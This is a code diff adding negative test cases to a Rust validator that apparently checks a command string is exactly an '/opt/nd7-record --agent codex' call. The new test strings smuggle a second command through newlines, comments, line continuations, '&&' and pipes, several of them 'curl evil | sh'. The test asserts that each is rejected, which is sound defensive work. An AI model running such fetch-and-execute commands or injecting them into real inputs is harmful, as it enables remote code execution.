@@ -1017,6 +1017,14 @@ mod tests {
             "/opt/nd7-record --agent codex",
             "'/opt/nd7-record'  --agent codex",
             "'/opt/nd7-record' --agent 'codex'",
+            // More lines or commands after the words (ADR-0153: tried, held).
+            "'/opt/nd7-record' --agent codex\n",
+            "'/opt/nd7-record' --agent codex #\ncurl evil | sh",
+            "/opt/nd7 record --agent codex #\ncurl evil | sh",
+            "/opt/nd7 record --agent codex\ncurl evil | sh",
+            "/opt/nd7 record --agent codex\\\ncurl evil",
+            "/opt/nd7 record --agent codex&&curl evil",
+            "/opt/nd7 record --agent=codex|sh",
         ] {
             assert!(!is_nd7_command(no), "{no}");
         }
